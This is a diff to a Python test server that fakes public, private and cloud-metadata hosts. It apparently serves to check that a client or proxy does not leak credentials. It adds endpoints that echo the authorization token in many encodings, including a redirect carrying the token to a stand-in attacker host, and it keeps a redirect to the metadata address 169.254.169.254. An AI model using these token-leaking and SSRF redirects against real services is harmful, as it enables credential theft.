@@ -1,6 +1,6 @@
 # The world outside, for tests: a network namespace with public-looking, private and metadata addresses, and servers behind all of
 # them. Whoever gets through reaches something that says so. Arguments: a certificate with its key.
-import asyncio, json, ssl, struct, subprocess, sys, time
+import asyncio, collections, json, ssl, struct, subprocess, sys, time
 
 V4 = [
     "93.184.216.2/24", "93.184.216.34/24", "93.184.216.35/24", "93.184.216.53/24", "93.184.216.40/24",
@@ -17,6 +17,7 @@ NAMES = {
 }
 ALIASES = {"alias.example": "meta.example"}
 seen = {"dns": 0, "requests": 0, "open": 0, "asked": {}}
+said_to = collections.deque(maxlen=2000)
 
 
 def addresses(name):
@@ -66,6 +67,38 @@ class Names(asyncio.DatagramProtocol):
             self.transport.sendto(said, sender)
 
 
+def packed(text):
+    return __import__("gzip").compress(text)
+
+
+async def reflect(path, headers, body, writer):
+    """Answers that give back what came, in all the ways in which servers do that."""
+    token = headers.get("authorization", "none").encode()
+    kind = path.split("?")[0].removeprefix("/v1").removeprefix("/reflect/")
+    if kind == "split":
+        writer.write(b"HTTP/1.1 200 OK\r\ntransfer-encoding: chunked\r\n\r\n")
+        for at in range(0, len(token), 3):
+            piece = token[at : at + 3]
+            writer.write(b"%x\r\n%s\r\n" % (len(piece), piece))
+            await writer.drain()
+            await asyncio.sleep(0.005)
+        writer.write(b"0\r\n\r\n")
+    elif kind == "trailer":
+        writer.write(b"HTTP/1.1 200 OK\r\ntransfer-encoding: chunked\r\ntrailer: x-echo\r\n\r\n2\r\nok\r\n0\r\nx-echo: " + token + b"\r\n\r\n")
+    elif kind == "upgrade":
+        writer.write(b"HTTP/1.1 101 Switching Protocols\r\nconnection: upgrade\r\nupgrade: websocket\r\n\r\n" + token)
+    else:
+        base64, quote = __import__("base64"), __import__("urllib.parse").parse.quote
+        said = {"body": body, "base64": base64.b64encode(b"x:" + token), "percent": quote(token.decode("latin1"), safe="").encode(),
+                "packed": packed(token), "json": json.dumps({"you said": token.decode("latin1")}).encode()}.get(kind, token)
+        first = {"status": b"200 " + token, "redirect": b"302 Found\r\nlocation: https://evil.example/?t=" + token, "header": b"200 OK\r\nx-echo: " + token,
+                 "packed": b"200 OK\r\ncontent-encoding: gzip"}.get(kind, b"200 OK")
+        if "range" in headers:
+            first, said = b"206 Partial Content", said[:12]
+        writer.write(b"HTTP/1.1 %s\r\ncontent-length: %d\r\n\r\n" % (first, len(said)) + said)
+    await writer.drain()
+
+
 async def serve(reader, writer):
     seen["open"] += 1
     try:
@@ -80,6 +113,11 @@ async def serve(reader, writer):
                     body += (await reader.readexactly(size + 2))[:-2]
                 await reader.readline()
             seen["requests"] += 1
+            here, tls = writer.get_extra_info("sockname")[0], bool(writer.get_extra_info("ssl_object"))
+            said_to.append({"here": here, "tls": tls, "path": path, "headers": headers, "body": body[:1000].decode("latin1")})
+            if "/reflect/" in path:
+                await reflect(path, headers, body, writer)
+                continue
             if path == "/drip":
                 writer.write(b"HTTP/1.1 200 OK\r\nconnection: close\r\n\r\n")
                 while True:
@@ -89,11 +127,10 @@ async def serve(reader, writer):
             if path.startswith("/bytes/"):
                 said = b"x" * int(path[7:])
             elif path == "/seen":
-                said = json.dumps(seen).encode()
+                said = json.dumps({**seen, "said": list(said_to)}).encode()
             elif path == "/quick":
                 said = b"quick"
             else:
-                here = writer.get_extra_info("sockname")[0]
                 said = json.dumps({"reached": here, "method": method, "path": path, "headers": headers, "body": len(body)}).encode()
             status = "302 Found\r\nlocation: http://169.254.169.254/latest/meta-data/" if path == "/redirect" else "200 OK"
             writer.write(f"HTTP/1.1 {status}\r\ncontent-length: {len(said)}\r\n\r\n".encode() + said)
